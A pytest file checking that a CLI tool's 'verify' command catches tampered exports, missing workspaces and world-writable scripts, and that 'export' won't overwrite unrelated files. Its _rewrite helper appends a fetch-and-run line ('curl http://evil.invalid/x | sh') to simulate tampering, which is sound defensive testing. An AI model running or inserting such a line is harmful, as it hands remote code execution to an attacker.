"""``opsgen verify`` and ``opsgen export --to`` edges through the real CLI entry point."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from opsgen.cli import main
from opsgen.store.canonical import sha256_text

SCRIPT = "#!/bin/bash\nset -euo pipefail\necho 'hello' > /etc/motd\n"


@pytest.fixture(autouse=True)
def seam(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, passing_checks: None) -> Path:
    monkeypatch.delenv("OPSGEN_WORKSPACE", raising=False)
    monkeypatch.setenv("OPSGEN_USER", "alice")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture()
def exported(capsys: pytest.CaptureFixture[str]) -> Path:
    """Change 1 in ./.opsgen (the default workspace), approved and exported to ./out."""
    Path("motd.sh").write_text(SCRIPT)
    assert run(capsys, "import", "motd.sh")[0] == 0
    assert run(capsys, "approve", "1", "--by", "bob")[0] == 0
    assert run(capsys, "export", "1", "--to", "out")[0] == 0
    return Path("out")


def _rewrite(out: Path) -> str:
    evil = SCRIPT + "curl http://evil.invalid/x | sh\n"
    (out / "motd.sh").write_text(evil)
    manifest = json.loads((out / "motd.opsgen.json").read_text())
    manifest["files"][0]["sha256"] = manifest["revision"]["sha256"] = sha256_text(evil)
    (out / "motd.opsgen.json").write_text(json.dumps(manifest))
    return evil


def test_verify_with_the_workspace_passes_a_clean_export(
    capsys: pytest.CaptureFixture[str], exported: Path
) -> None:
    code, out, _ = run(capsys, "verify", "out/motd.sh")
    assert code == 0 and "OK" in out and "approved by bob" in out
    assert "checked against the workspace" in out
    data = json.loads(run(capsys, "verify", "out/motd.sh", "--json")[1])
    assert data["ok"] is True and data["vetted"] is True and data["checked"] == "workspace"


def test_verify_with_the_workspace_fails_a_rewritten_manifest(
    capsys: pytest.CaptureFixture[str], exported: Path
) -> None:
    _rewrite(exported)
    code, out, _ = run(capsys, "verify", "out/motd.sh")
    assert code == 1 and "OK" not in out
    assert "motd.sh: sha256 " in out and f"not the approved sha256 {sha256_text(SCRIPT)}" in out


def test_verify_names_the_workspace_it_was_given(
    capsys: pytest.CaptureFixture[str], exported: Path, tmp_path: Path
) -> None:
    _rewrite(exported)
    Path(".opsgen").rename("elsewhere")
    code, out, _ = run(capsys, "verify", "out/motd.sh")  # no workspace: not vetted
    assert code == 0 and "self-consistency only (workspace not found)" in out
    assert "approved by" not in out
    code, out, _ = run(capsys, "verify", "out/motd.sh", "--workspace", "elsewhere")
    assert code == 1 and "not the approved sha256" in out
    code, _, err = run(capsys, "verify", "out/motd.sh", "--workspace", "nowhere")
    assert code == 3 and "no opsgen workspace at nowhere" in err


def test_verify_without_a_workspace_says_so(
    capsys: pytest.CaptureFixture[str], exported: Path
) -> None:
    Path(".opsgen").rename("elsewhere")
    code, out, _ = run(capsys, "verify", "out/motd.sh")
    assert code == 0 and "self-consistency only (workspace not found)" in out
    data = json.loads(run(capsys, "verify", "out/motd.sh", "--json")[1])
    assert data["ok"] is True and data["vetted"] is False
    assert data["checked"] == "self-consistency only (workspace not found)"
    code, _, err = run(capsys, "verify", "out/motd.sh", "--require-workspace")
    assert code == 3 and "no-workspace" in err


def test_verify_fails_a_world_writable_script(
    capsys: pytest.CaptureFixture[str], exported: Path
) -> None:
    (exported / "motd.sh").chmod(0o777)
    code, out, _ = run(capsys, "verify", "out/motd.sh")
    assert code == 1 and "motd.sh: mode 0777" in out and "OK" not in out


def test_export_refuses_to_overwrite_an_unrelated_file(
    capsys: pytest.CaptureFixture[str],
) -> None:
    Path("motd.sh").write_text(SCRIPT)
    run(capsys, "import", "motd.sh")
    run(capsys, "approve", "1", "--by", "bob")
    Path("deploy").mkdir()
    Path("deploy/motd.sh").write_text("mine\n")
    code, _, err = run(capsys, "export", "1", "--to", "deploy")
    errors = [ln for ln in err.splitlines() if ln.startswith("error[")]
    assert code == 6 and len(errors) == 1
    assert "refusing to overwrite" in errors[0] and "deploy/motd.sh" in errors[0]
    assert Path("deploy/motd.sh").read_text() == "mine\n"
    assert run(capsys, "export", "1", "--to", "deploy", "--force")[0] == 0
    assert Path("deploy/motd.sh").read_text() == SCRIPT
    code, _, err = run(capsys, "export", "1", "--repo", "r", "--force")
    assert code == 2 and "--force applies to --to DIR only" in err
